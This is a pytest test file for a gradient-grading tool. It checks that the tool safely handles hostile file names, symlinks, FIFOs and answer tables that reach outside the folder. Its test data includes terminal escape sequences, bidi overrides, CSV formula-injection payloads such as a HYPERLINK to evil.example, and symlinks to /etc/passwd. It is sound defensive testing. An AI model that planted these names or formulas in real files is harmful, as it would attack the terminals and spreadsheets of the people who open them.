"""Hostile names and what a folder may reach (issue 11): the corpus of names and folders.

A teacher grades files written by other people. Their names can carry
terminal escapes, forged lines, bidirectional overrides, comment-ending line
breaks, spreadsheet formulas and bytes that are not UTF-8; a folder can hold
symbolic links out of it, FIFOs and folders named ``x.py``; an answers table
can name files outside its folder. Each example is a test with its escaped
text, one row per entry, and no side effect; hypothesis covers the classes.
"""

import csv
import io
import json
import os
import re
import subprocess
import sys
import threading
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from pathgrad.escaping import (
    csv_cell,
    is_hidden,
    json_for_html,
    json_visible,
    visible,
)
from pathgrad.grade import (
    ROW_FIELDS,
    check_answers_table,
    grade_folder,
    rows_to_csv,
    rows_to_json,
    rows_to_text,
)
from pathgrad.grade.rows import report_row, with_columns

ROOT = Path(__file__).resolve().parent.parent
SEED_TEXT = (ROOT / "pathgrad" / "examples" / "seed.py").read_text()
#: Every Unicode line break: a comment or a fence must survive each of them.
LINE_BREAKS = ["\r", "\n", "\r\n", "\v", "\f", "\x1c", "\x1d", "\x1e", "\x85", "\u2028", "\u2029"]
#: Names from the issue, with the text each shows as.
HOSTILE_NAMES = {
    '=HYPERLINK("http:evil.example?"&A1,"click").py': '=HYPERLINK("http:evil.example?"&A1,"click").py',
    "\x1b]0;pwned\x07\x1b[2Jclear.py": "\\x1b]0;pwned\\x07\\x1b[2Jclear.py",
    "\x1b]52;c;ZXZpbA==\x07clip.py": "\\x1b]52;c;ZXZpbA==\\x07clip.py",
    "zed.py: w1: wrong\nbob.py: w1: right.py": "zed.py: w1: wrong\\nbob.py: w1: right.py",
    "evil\u202egnp.py": "evil\\u202egnp.py",
    "iso\u2066late\u2069.py": "iso\\u2066late\\u2069.py",
    "bob\u034f.py": "bob\\u034f.py",  # looks like bob.py
    "\u3164\u115f.py": "\\u3164\\u115f.py",  # Hangul fillers: a name that shows as nothing
    "tex\r\\input{secret}.py": "tex\\r\\input{secret}.py",
}
SECRET = "secret_leaf_4711"
MARKER = "pathgrad_pwned.txt"
#: A file that writes a marker when run as Python (it must not be, in a folder).
WRITES_MARKER = f"x = 1.0\nopen({MARKER!r}, 'w').write('x')\nL = x * 2\n"


def hidden(text):
    return [c for c in text if is_hidden(c)]


def formula_start(cell):
    return cell.lstrip(" ").startswith(("=", "+", "-", "@", "\t", "\r", "\n"))


NUMBER = re.compile(r"[+-]?(\d+\.?\d*|\.\d+)([eE][+-]?\d+)?")


# -- the one helper ---------------------------------------------------------------------------
@pytest.mark.parametrize("name, shown", HOSTILE_NAMES.items())
def test_visible_escapes_each_example(name, shown):
    assert visible(name) == shown


@pytest.mark.parametrize("brk", LINE_BREAKS)
def test_visible_leaves_one_line_for_every_line_break(brk):
    assert len(visible(f"a{brk}b").splitlines()) == 1
    assert hidden(visible(f"a{brk}b")) == []


#: Text that mixes the characters hostile names are made of with ordinary ones.
HOSTILE_TEXT = st.text(
    st.one_of(
        st.sampled_from(
            [
                "\x1b",
                "\x07",
                "\x9b",
                "\x7f",
                "\x00",
                "\t",
                "\u200b",
                "\u202e",
                "\u2067",
                "\ufeff",
                "\udcff",
                "\udce9",
                "\ud800",
                "=",
                "+",
                "-",
                "@",
                " ",
                "'",
                '"',
                ",",
                "\\",
                "<",
                ">",
                "&",
                "%",
                "#",
                "`",
                "é",
                "∂",
                "\U000e0041",
            ]
        ),
        st.sampled_from([b for b in LINE_BREAKS if len(b) == 1]),
        st.characters(),
    ),
    max_size=40,
)


@settings(max_examples=200, deadline=None)
@given(HOSTILE_TEXT)
def test_visible_shows_no_hidden_character_on_one_line(text):
    shown = visible(text)
    assert hidden(shown) == []
    assert len(shown.splitlines()) <= 1
    shown.encode("utf-8")  # never a lone surrogate
    assert visible(shown) == shown  # escaping twice changes nothing more
    if not hidden(text):
        assert shown == text


@settings(max_examples=200, deadline=None)
@given(HOSTILE_TEXT)
def test_csv_cell_never_starts_a_formula(text):
    cell = csv_cell(text)
    assert not formula_start(cell) or NUMBER.fullmatch(cell)
    assert cell in (visible(text), "'" + visible(text))


@pytest.mark.parametrize(
    "cell, written",
    [
        ("=1+1", "'=1+1"),
        ("+cmd", "'+cmd"),
        ("-w2*x1 - w3*x2", "'-w2*x1 - w3*x2"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("  =1", "'  =1"),
        ("\t=1", "\\t=1"),
        ("-7.0", "-7.0"),
        ("-1.5e-05", "-1.5e-05"),
        ("-inf", "'-inf"),
        ("nan", "nan"),
        ("w1", "w1"),
    ],
)
def test_csv_cell_rule(cell, written):
    assert csv_cell(cell) == written


@settings(max_examples=150, deadline=None)
@given(
    st.recursive(
        st.one_of(st.none(), st.integers(), HOSTILE_TEXT),
        lambda inner: (
            st.lists(inner, max_size=4) | st.dictionaries(HOSTILE_TEXT, inner, max_size=4)
        ),
        max_leaves=12,
    )
)
def test_json_helpers_carry_the_data_unchanged(data):
    text = json_visible(json.dumps(data, ensure_ascii=False, indent=2))
    assert json.loads(text) == data
    assert hidden(text.replace("\n", "")) == []
    text.encode("utf-8")
    in_html = json_for_html(text)
    assert json.loads(in_html) == data
    assert not set("<>&") & set(in_html)


# -- reports: CSV, JSON, text --------------------------------------------------------------
@settings(max_examples=100, deadline=None)
@given(st.lists(st.tuples(HOSTILE_TEXT, HOSTILE_TEXT, HOSTILE_TEXT), min_size=1, max_size=6))
def test_reports_keep_every_row_and_escape_it(triples):
    """Untrusted file names, answers, messages and the table's own columns (a student
    named ``=cmd|' /C calc'!A0``): one line each, every CSV cell inert, JSON unchanged."""
    rows = [
        with_columns(report_row(file, "w1", answer, "wrong", message), {"student": message})
        for file, answer, message in triples
    ]
    lines = rows_to_text(rows).split("\n")
    if len(rows) > 1:  # and the summary (no score: no totals)
        assert len(lines) == len(rows) + 1
        assert lines[-1] == f"0 right, 0 partial, {len(rows)} wrong, 0 errors"
    assert hidden("".join(lines)) == []
    for line, (file, _, _) in zip(lines, triples):
        assert line.startswith(visible(f"{file}: " if file else ""))
    table = list(csv.reader(io.StringIO(rows_to_csv(rows))))
    assert table[0] == ["file", "student", *ROW_FIELDS[1:]]
    assert table[-1][4] == "summary" and len(table) >= len(rows) + 2
    for record, (file, answer, message) in zip(table[1:], triples):
        assert record[:4] == [csv_cell(file), csv_cell(message), "w1", csv_cell(answer)]
    for record in table[1:]:
        assert not any(formula_start(cell) and not NUMBER.fullmatch(cell) for cell in record)
        assert hidden("".join(record)) == []
    data = json.loads(rows_to_json(rows))["rows"]
    assert [(r["file"], r["student"], r["answer"], r["message"]) for r in data] == [
        (file, message, answer, message) for file, answer, message in triples
    ]


# -- renderers: comments and fences --------------------------------------------------------
@pytest.fixture(scope="module")
def seed_explanation():
    from pathgrad.explanation import explain

    return explain("seed", wrt=["w1"])


def renders(explanation, name):
    """Every renderer that writes a comment or a fence, for a file called ``name``."""
    from pathgrad.pictures.drawing import draw
    from pathgrad.render import latex, markdown
    from pathgrad.render import text as text_render

    explanation.file = name
    explanation.graph.graph["file"] = name
    drawing = draw(explanation, wrt="w1")
    return {
        "latex": latex.render(explanation),
        "markdown": markdown.render(explanation),
        "dot": drawing.dot,
        "mermaid": drawing.mermaid,
        "text": text_render.render(explanation),
    }


COMMENTS = {"latex": "% pathgrad: ", "dot": "// pathgrad: ", "mermaid": "  %% pathgrad: "}


@settings(max_examples=40, deadline=None)
@given(
    st.lists(
        st.one_of(
            st.sampled_from(LINE_BREAKS),
            HOSTILE_TEXT,
            st.sampled_from(["\\input{secret}", "```", "%%{init}%%", "}", "#"]),
        ),
        max_size=6,
    ).map("".join)
)
def test_no_line_break_ends_a_comment_or_a_fence(seed_explanation, name):
    plain, hostile = renders(seed_explanation, "a.py"), renders(seed_explanation, name + ".py")
    for kind, out in hostile.items():
        assert len(out.splitlines()) == len(plain[kind].splitlines()), kind
        assert hidden(out.replace("\n", "")) == [], kind
        if kind in COMMENTS:
            comment = out.splitlines()[0] if kind != "mermaid" else out.splitlines()[1]
            assert comment.startswith(COMMENTS[kind]) and visible(name) in comment
    fences = [line for line in hostile["markdown"].splitlines() if line.startswith("```")]
    assert fences == ["```mermaid", "```"]


@pytest.mark.parametrize("brk", LINE_BREAKS)
def test_latex_comment_holds_a_forged_input(seed_explanation, brk):
    out = renders(seed_explanation, f"tex{brk}\\input{{secret}}.py")["latex"]
    assert out.splitlines()[0] == f"% pathgrad: L = 1 - x5 (tex{visible(brk)}\\input{{secret}}.py)"
    assert [line for line in out.splitlines() if "secret" in line] == [out.splitlines()[0]]


def test_step_player_frames_hold_a_script_comment(tmp_path, monkeypatch):
    from pathgrad.explanation import explain
    from pathgrad.pictures.drawing import steps

    monkeypatch.chdir(tmp_path)
    comment = "# <!--<script> & </script>"
    Path("player.py").write_text(f"x = 2.0\ny = x * 3  {comment}\nL = y + x\n")
    page = steps(explain("player.py")).html
    opening = '<script type="application/json" class="frames">'
    start = page.index(opening) + len(opening)
    data = page[start : page.index("</script>", start)]
    assert not set("<>&") & set(data)
    frames = json.loads(data)
    assert any(comment in frame["h"] for frame in frames)
    assert page.count("<script") == 2 and "<!--" not in page


# -- folders ---------------------------------------------------------------------------------
def run_without_blocking(function, *args, **kwargs):
    """Run ``function``; a FIFO that is read would block it for ever, so a hang fails."""
    result = {}
    thread = threading.Thread(
        target=lambda: result.update(value=function(*args, **kwargs)), daemon=True
    )
    thread.start()
    thread.join(timeout=600)
    assert not thread.is_alive(), "blocked (a FIFO was read?)"
    return result["value"]


@pytest.fixture(scope="module")
def hostile_folder(tmp_path_factory):
    """A class folder with every kind of hostile entry, and a secret outside it."""
    base = tmp_path_factory.mktemp("hostile")
    secret = base / "secret"
    secret.mkdir()
    (secret / "solution.py").write_text(f"{SECRET} = 3.0\nL = {SECRET} * 2\n")
    folder = base / "class"
    folder.mkdir()
    (folder / "alice.py").write_text(SEED_TEXT)
    for name in HOSTILE_NAMES:
        (folder / name).write_text(SEED_TEXT)
    with open(os.path.join(os.fsencode(folder), b"caf\xe9.py"), "w") as handle:  # not UTF-8
        handle.write(SEED_TEXT)
    (folder / "carol.py").write_text(WRITES_MARKER)
    (folder / "passwd_link.py").symlink_to("/etc/passwd")
    (folder / "solution_link.py").symlink_to(secret / "solution.py")
    (folder / "dangling.py").symlink_to(base / "nowhere.py")
    os.mkfifo(folder / "pipe.py")
    (folder / "x.py").mkdir()
    (folder / "notes.txt").write_text("not a student file")
    (folder / "answers.csv").write_text(
        "file,leaf,answer\n"
        'alice.py,w1,=HYPERLINK("http://evil";"x")\n'
        f"../secret/solution.py,w1,2\n"
        f"{secret / 'solution.py'},w1,2\n"
        f"solution_link.py,w1,2\n"
        "nobody.py,w1,1\n"
    )
    return folder


ENTRY_VERDICTS = {
    "alice.py": "right",
    "caf\udce9.py": "right",
    "carol.py": "error",
    "passwd_link.py": "error",
    "solution_link.py": "error",
    "dangling.py": "error",
    "pipe.py": "error",
    "x.py": "error",
    **dict.fromkeys(HOSTILE_NAMES, "right"),
}
ENTRY_MESSAGES = {
    "passwd_link.py": "passwd_link.py: a symbolic link (not followed; copy the file itself "
    "into the folder)",
    "dangling.py": "dangling.py: a symbolic link (not followed; copy the file itself into the "
    "folder)",
    "pipe.py": "pipe.py: a named pipe (FIFO), not a file; not read",
    "x.py": "x.py: a folder, not a file",
    "carol.py": "carol.py:2: not allowed in --safe mode: call to open()",
}


@pytest.fixture(scope="module")
def graded(hostile_folder, tmp_path_factory):
    elsewhere = tmp_path_factory.mktemp("cwd")
    cwd = os.getcwd()
    os.chdir(elsewhere)
    try:
        rows = run_without_blocking(grade_folder, hostile_folder, "w1", "-w2*x1 - w3*x2", jobs=2)
    finally:
        os.chdir(cwd)
    for place in (elsewhere, hostile_folder, Path(cwd)):
        assert not (place / MARKER).exists()
    return rows


def test_every_entry_gets_one_row(graded):
    assert {r["file"]: r["verdict"] for r in graded} == ENTRY_VERDICTS
    assert len(graded) == len(ENTRY_VERDICTS)
    assert [r["file"] for r in graded] == sorted(ENTRY_VERDICTS)
    for row in graded:
        if row["file"] in ENTRY_MESSAGES:
            assert row["message"] == ENTRY_MESSAGES[row["file"]]


def test_nothing_outside_the_folder_is_read(graded):
    everything = json.dumps(graded) + rows_to_text(graded) + rows_to_csv(graded)
    assert SECRET not in everything and "root:" not in everything


def test_text_report_escapes_every_name(graded):
    lines = rows_to_text(graded).split("\n")[:-1]  # the last: the summary
    assert len(lines) == len(graded)
    shown = {visible(r["file"]) for r in graded}
    for line in lines:
        assert hidden(line) == [] and any(line.startswith(name + ": w1: ") for name in shown)
    assert any(
        line.startswith("zed.py: w1: wrong\\nbob.py: w1: right.py: w1: right (1): your answer")
        for line in lines
    )
    assert (
        "caf\\xe9.py: w1: right (1): your answer is dL/dw1 = -w2*x1 - w3*x2, the sum of 2 paths"
        in lines
    )


def test_csv_report_neutralises_formulas(graded):
    table = list(csv.reader(io.StringIO(rows_to_csv(graded))))
    files = [record[0] for record in table[1:]]
    assert '\'=HYPERLINK("http:evil.example?"&A1,"click").py' in files
    for record in table[1:]:
        assert not any(formula_start(c) and not NUMBER.fullmatch(c) for c in record), record
    right = next(r for r in table[1:] if r[0] == "alice.py")
    assert right[2:7] == ["'-w2*x1 - w3*x2", "right", "1.0", "'-w2*x1 - w3*x2", "-8.0"]


def test_feedback_pages_of_a_hostile_folder_are_safe_names_and_inert_text(graded):
    from pathgrad.grade import feedback_pages

    pages = feedback_pages(graded)
    assert len(pages) == len(graded)  # one per file, none lost to a clash
    assert len({name.lower() for name in pages}) == len(pages)
    for name, page in pages.items():
        assert re.fullmatch(r"[A-Za-z0-9_-]+\.md", name), name
        assert hidden(page.replace("\n", "")) == [], name
        for line in page.split("\n"):  # every name is in a code span or escaped
            assert "<" not in line.replace("&lt;", ""), line
            assert not line.startswith("=HYPERLINK"), line
    # the name on one line, its \n shown (an escaped backslash: \\n in the Markdown)
    assert "# Feedback: zed.py: w1: wrong\\\\nbob.py: w1: right.py" in "\n".join(pages.values())


def test_json_report_carries_names_unchanged(graded):
    data = json.loads(rows_to_json(graded))["rows"]
    assert [r["file"] for r in data] == [r["file"] for r in graded]
    assert "caf\udce9.py" in [r["file"] for r in data]  # the byte is kept (surrogateescape)


def test_folder_answers_table_may_not_reach_outside(hostile_folder):
    rows = run_without_blocking(
        grade_folder, hostile_folder, "w1", Path(hostile_folder / "answers.csv"), jobs=2
    )
    by_file = {}
    for row in rows:
        by_file.setdefault(row["file"], []).append(row)
    assert SECRET not in json.dumps(rows)
    outside = "refused: an answers table may only name files in the folder, not "
    assert by_file["../secret/solution.py"][0]["message"] == (
        f"../secret/solution.py: {outside}a path with '..'"
    )
    absolute = str(hostile_folder.parent / "secret" / "solution.py")
    assert by_file[absolute][0]["message"] == f"{absolute}: {outside}an absolute path"
    assert by_file["solution_link.py"][0]["verdict"] == "error"
    assert by_file["nobody.py"][0]["message"] == "nobody.py: no such file in the folder"
    assert by_file["alice.py"][0]["verdict"] == "invalid"  # the formula is read, never run
    assert {f for f in by_file} >= set(ENTRY_VERDICTS)


def test_answers_table_refuses_paths_outside_and_links(tmp_path):
    secret = tmp_path / "secret"
    secret.mkdir()
    (secret / "solution.py").write_text(f"{SECRET} = 3.0\nL = {SECRET} * 2\n")
    table_folder = tmp_path / "marks"
    table_folder.mkdir()
    (table_folder / "seed.py").write_text(SEED_TEXT)
    (table_folder / "link.py").symlink_to(secret / "solution.py")
    (table_folder / "linked").symlink_to(secret)
    os.mkfifo(table_folder / "pipe.py")
    (table_folder / "sub").mkdir()
    (table_folder / "sub" / "seed.py").write_text(SEED_TEXT)
    table = table_folder / "answers.csv"
    table.write_text(
        "file,leaf,answer\n"
        "seed.py,w1,-w2*x1 - w3*x2\n"
        f"../secret/solution.py,w1,2\n"
        f"{secret / 'solution.py'},w1,2\n"
        f"link.py,w1,2\n"
        f"linked/solution.py,w1,2\n"
        f"sub/../../secret/solution.py,w1,2\n"
        "pipe.py,w1,1\n"
        "sub/seed.py,w1,-w2*x1 - w3*x2\n"
    )
    rows = run_without_blocking(check_answers_table, table)
    assert [r["verdict"] for r in rows] == ["right", *["error"] * 6, "right"]
    assert [r["message"].split(": ", 1)[1] for r in rows[1:7]] == [
        "refused: an answers table may only name files in its own folder, not a path with '..'",
        "refused: an answers table may only name files in its own folder, not an absolute path",
        "refused: a symbolic link (not followed; copy the file itself into the folder)",
        "refused: a symbolic link (not followed; copy the file itself into the folder)",
        "refused: an answers table may only name files in its own folder, not a path with '..'",
        "refused: a named pipe (FIFO), not a file; not read",
    ]
    assert SECRET not in json.dumps(rows)


# -- the command line, under any locale ------------------------------------------------------
@pytest.mark.parametrize(
    "locale", [{"LC_ALL": "C"}, {"LC_ALL": "C", "PYTHONUTF8": "0", "PYTHONCOERCECLOCALE": "0"}]
)
def test_cli_keeps_every_row_under_any_locale(tmp_path, locale):
    folder = os.fsencode(tmp_path)
    for name in (
        b"caf\xe9.py",
        "d\u00e9j\u00e0.py".encode(),
        "evil\u202egnp.py".encode(),
        b"ok.py",
    ):
        with open(os.path.join(folder, name), "w") as handle:
            handle.write(SEED_TEXT)
    env = {**os.environ, "PYTHONPATH": str(ROOT), **locale}
    env.pop("PYTHONIOENCODING", None)
    for fmt in ("text", "csv", "json"):
        done = subprocess.run(
            [
                sys.executable,
                "-m",
                "pathgrad",
                "check",
                str(tmp_path),
                "--wrt",
                "w1",
                "--answer",
                "-w2*x1 - w3*x2",
                "--jobs",
                "2",
                "--format",
                fmt,
            ],
            capture_output=True,
            env=env,
            timeout=600,
            check=False,
        )
        assert done.returncode == 0, done.stderr
        out = done.stdout.decode("ascii" if "PYTHONUTF8" in locale else "utf-8")
        if fmt == "text":  # a line per file, and the summary
            assert len(out.splitlines()) == 5 and "caf\\xe9.py: w1: right" in out
        elif fmt == "csv":  # the header, a row and a total per file, the summary
            assert len(list(csv.reader(io.StringIO(out)))) == 10
        else:
            assert len(json.loads(out)["rows"]) == 4


def test_cli_error_names_the_file_escaped(tmp_path, monkeypatch, capsys):
    from pathgrad.cli import main

    monkeypatch.chdir(tmp_path)
    name = "bad\x1b[2J\u202e\n.py"
    Path(name).write_text("x = 1\nL = x +* 2\n")
    for extra in ([], ["--safe"]):
        assert main(["explain", *extra, name]) == 2
        err = capsys.readouterr().err
        assert err == "pathgrad: bad\\x1b[2J\\u202e\\n.py:2: syntax error: invalid syntax\n"


# -- a single file named on the command line (review of issue 11) --------------------------
def _cli(args, capsys):
    from pathgrad.cli import main

    status = main(args)
    out, err = capsys.readouterr()
    assert "Traceback" not in out + err and "internal error" not in err
    return status, out, err


@pytest.fixture
def odd_entries(tmp_path):
    """A FIFO, a link to a file outside, a link to a device: named one by one."""
    outside = tmp_path / "outside.py"
    outside.write_text(SEED_TEXT)
    folder = tmp_path / "class"
    folder.mkdir()
    os.mkfifo(folder / "fifo.py")
    (folder / "link.py").symlink_to(outside)
    (folder / "zero.py").symlink_to("/dev/zero")
    return folder


@pytest.mark.parametrize("entry", ["fifo.py", "link.py", "zero.py"])
@pytest.mark.parametrize(
    "command",
    [
        ["explain", "--safe"],
        ["check", "--wrt", "w1", "--answer", "-w2*x1"],
        ["graph", "--safe", "-o", "{out}/g.svg"],
        ["steps", "--safe", "-o", "{out}/frames/"],
    ],
    ids=["explain", "check", "graph", "steps"],
)
def test_a_named_file_is_read_only_if_it_is_a_regular_file(odd_entries, entry, command, capsys):
    """Never a hang on a FIFO, an endless read of /dev/zero, or a link followed out."""
    out_dir = odd_entries.parent
    args = [a.format(out=out_dir) for a in command]
    status, out, err = run_without_blocking(_cli, [*args, str(odd_entries / entry)], capsys)
    if command[0] == "check":  # a row of its own and status 3, as in a folder (issue 15)
        status, err = status - 1, out
    assert status == 2, err
    assert "refused: " in err and ("symbolic link" in err or "named pipe" in err), err
    assert not (out_dir / "g.svg").exists() and not (out_dir / "frames").exists()


def test_a_file_larger_than_a_page_of_maths_is_refused(tmp_path, capsys):
    big = tmp_path / "big.py"
    big.write_text("x = 1.0\n" + "# padding\n" * 120_000 + "L = x * x\n")
    status, _out, err = _cli(["explain", "--safe", str(big)], capsys)
    assert status == 2 and "larger than 1 MiB" in err


# -- nothing the user had is overwritten ------------------------------------------------------
@pytest.fixture
def submissions(tmp_path):
    folder = tmp_path / "class"
    folder.mkdir()
    (folder / "alice.py").write_text(SEED_TEXT)
    return folder


@pytest.mark.parametrize(
    "args, target",
    [
        (["check", "{f}", "--wrt", "w1", "--answer", "-w2*x1 - w3*x2", "-o"], "{f}/alice.py"),
        (["check", "{f}/alice.py", "--wrt", "w1", "--answer", "-w2*x1", "-o"], "{f}/alice.py"),
        (["graph", "{f}/alice.py", "-o"], "{f}/alice.py"),
        (["check", "{f}", "--wrt", "w1", "--answer", "1", "--force", "-o"], "{f}/alice.py"),
    ],
    ids=["report-over-submission", "single-file", "picture-over-input", "even-with-force"],
)
def test_an_output_never_replaces_an_input(submissions, capsys, args, target):
    before = (submissions / "alice.py").read_text()
    status, _out, err = _cli(
        [a.format(f=submissions) for a in args] + [target.format(f=submissions)], capsys
    )
    assert status == 2 and "is what is being read" in err
    assert (submissions / "alice.py").read_text() == before


@pytest.mark.parametrize(
    "command",
    [
        ["check", "{f}", "--wrt", "w1", "--answer", "-w2*x1 - w3*x2", "-o", "{t}/report.csv"],
        ["graph", "{f}/alice.py", "-o", "{t}/report.csv"],
    ],
    ids=["check", "graph"],
)
def test_an_existing_file_is_replaced_only_with_force(submissions, tmp_path, capsys, command):
    report = tmp_path / "report.csv"
    report.write_text("precious")
    args = [a.format(f=submissions, t=tmp_path) for a in command]
    if args[0] == "graph":
        args[-1] = str(tmp_path / "report.svg")
        report = tmp_path / "report.svg"
        report.write_text("precious")
    status, _out, err = _cli(args, capsys)
    assert (
        status == 2 and "already exists; pass --force" in err and report.read_text() == "precious"
    )
    status, _out, err = _cli([*args, "--force"], capsys)
    assert status == 0 and report.read_text() != "precious"


def test_steps_never_replaces_frames_without_force(submissions, tmp_path, capsys):
    frames = tmp_path / "frames"
    args = ["steps", str(submissions / "alice.py"), "-o", f"{frames}/"]
    assert _cli(args, capsys)[0] == 0
    first = (frames / "step-001.svg").read_text()
    (frames / "step-001.svg").write_text("my notes")
    status, _out, err = _cli(args, capsys)
    assert status == 2 and "step-001.svg: already exists" in err
    assert (frames / "step-001.svg").read_text() == "my notes"
    assert _cli([*args, "--force"], capsys)[0] == 0
    assert (frames / "step-001.svg").read_text() == first


# -- a file's own text in pictures -----------------------------------------------------------
CONTROLS = st.text(
    st.characters(categories=["Cc", "Cf", "Zl", "Zp"], exclude_characters="\n\r"),
    min_size=1,
    max_size=6,
)


@settings(max_examples=15, deadline=None)
@given(comment=CONTROLS)
def test_a_source_comment_never_reaches_a_picture_raw(comment, tmp_path_factory):
    """The source line is a node's tooltip and a step's caption: escaped, valid XML."""
    import xml.etree.ElementTree as ET

    from pathgrad.explanation import explain_program
    from pathgrad.pictures.drawing import draw, steps
    from pathgrad.trace.loader import load_source

    source = f"a = 1.0\nb = 2.0\nc = a * b  # {comment} evil\nL = c * 2\n"
    explanation = explain_program(load_source(source, "src.py"))
    drawing, story = draw(explanation, wrt="a"), steps(explanation, wrt="a")
    texts = [drawing.svg, drawing.dot, drawing.html, story.html, *(story.svg(i) for i in range(3))]
    for text in texts:
        raw = [hex(ord(c)) for c in set(comment) if c in text]
        assert not raw, raw
    for svg in [drawing.svg, story.svg(2)]:
        ET.fromstring(svg)


# -- bounds that a single step of the file could overrun ------------------------------------
@pytest.mark.parametrize(
    "line",
    [
        "t = [b] == [f]",  # ~4e10 comparisons in one C call
        "t = b < f",
        "print(b)",  # a string of gigabytes before the print cut
    ],
)
def test_one_step_over_shared_lists_is_bounded_in_process(line):
    from pathgrad.errors import LoadError
    from pathgrad.trace.loader import load_source

    source = (
        "a = [0] * 200000\nb = [a] * 4\ne = [0] * 200000\nf = [e] * 4\n"
        f"{line}\nw1 = 1.0\nL = w1 * w1\n"
    )
    with pytest.raises(LoadError, match="lists of more than 1000000 items in all"):
        load_source(source, "cmp.py", safe=True)


def test_a_short_answer_with_huge_powers_is_read_quickly():
    """52 characters whose expansion has 10**50 terms: refused or judged, never expanded."""
    from pathgrad.explanation import explain
    from pathgrad.grade import check_answer

    seed = explain("seed", wrt=["w1"])
    answer = "(w1+w2+w3+x1+x2+w1*w2+w2*w3)**64*(w1+x2+w3+x1+3)**64"
    result = run_without_blocking(check_answer, seed, "w1", answer)
    assert result.verdict == "wrong"


def test_python_dash_m_in_a_submissions_folder_imports_nothing_from_it(submissions):
    marker = submissions / "PWNED"
    (submissions / "argparse.py").write_text(f"open({str(marker)!r}, 'w').write('x')\n")
    env = dict(os.environ, PYTHONPATH=str(ROOT))
    done = subprocess.run(
        [
            sys.executable,
            "-m",
            "pathgrad",
            "check",
            ".",
            "--wrt",
            "w1",
            "--answer",
            "-w2*x1 - w3*x2",
        ],
        cwd=submissions,
        env=env,
        capture_output=True,
        text=True,
        timeout=120,
    )
    assert "alice.py: w1: right" in done.stdout, done.stderr
    assert not marker.exists()


# -- second review of issue 11 ---------------------------------------------------------------
@pytest.mark.parametrize("call", ["max(d, d2)", "min(d, d2)"])
def test_max_and_min_of_shared_lists_are_bounded_in_process(call):
    from pathgrad.errors import LoadError
    from pathgrad.trace.loader import load_source

    source = (
        "a = [0] * 1000\na2 = [0] * 1000\nb = [a] * 1000\nb2 = [a2] * 1000\n"
        "c = [b] * 1000\nc2 = [b2] * 1000\nd = [c] * 1000\nd2 = [c2] * 1000\n"
        f"m = {call}\nx = leaf('x', 2.0)\nL = x * x\n"
    )
    with pytest.raises(LoadError, match="lists of more than 1000000 items in all"):
        load_source(source, "mx.py", safe=True)


@pytest.mark.parametrize("kind", ["fifo", "link", "device"])
def test_an_answers_table_is_read_only_if_it_is_a_regular_file(tmp_path, capsys, kind):
    (tmp_path / "a.py").write_text(SEED_TEXT)
    table = tmp_path / "answers.csv"
    if kind == "fifo":
        os.mkfifo(table)
    elif kind == "link":
        (tmp_path / "real.csv").write_text("leaf,answer\nw1,-w2*x1\n")
        table.symlink_to(tmp_path / "real.csv")
    else:
        table.symlink_to("/dev/zero")
    status, _out, err = run_without_blocking(
        _cli, ["check", str(tmp_path / "a.py"), "--answers", str(table)], capsys
    )
    assert status == 2 and "refused: " in err, err


@pytest.mark.parametrize("char", ["\ufe0f", "\ufe00", "\U000e0100", "\u180b", "\u034f", "\u3164"])
def test_a_character_that_shows_as_nothing_is_escaped(char):
    assert visible(f"bob{char}.py") != "bob.py" and "\\" in visible(f"bob{char}.py")


def test_a_leaf_name_is_read_as_python_reads_names():
    import pathgrad
    from pathgrad.errors import TraceError

    assert pathgrad.leaf("\uff571", 3.0).name == "w1"  # fullwidth w: NFKC, as the parser
    with pytest.raises(TraceError, match="shows as nothing"):
        pathgrad.leaf("w1\ufe00", 3.0)


def test_a_picture_written_in_safe_mode_names_its_path_escaped(tmp_path, capsys):
    out = tmp_path / "x\x1b]0;PWNED\x07y.svg"
    status, text, _err = _cli(["graph", "--safe", "seed", "-o", str(out)], capsys)
    assert status == 0 and "\x1b" not in text and "\\x1b" in text


def test_markdown_writes_an_entity_in_a_name_as_text():
    from pathgrad.render.markdown import plain

    assert plain("a&rlm;b.py") == "a&amp;rlm;b.py"


@pytest.mark.parametrize("command", ["explain", "check"])
def test_a_name_on_the_command_line_is_read_as_python_reads_names(tmp_path, capsys, command):
    path = tmp_path / "u3.py"
    path.write_text('a = leaf("\uff571", 2.0)\nw2 = 3.0\nL = a * a * w2\n')
    args = [command, str(path), "--wrt", "\uff571", "--loss", "L"]
    if command == "check":
        args += ["--answer", "2*\uff571*w2"]
    status, out, err = _cli(args, capsys)
    assert status == 0, err
    assert ("right" in out) if command == "check" else ("∂L/∂w1" in out)
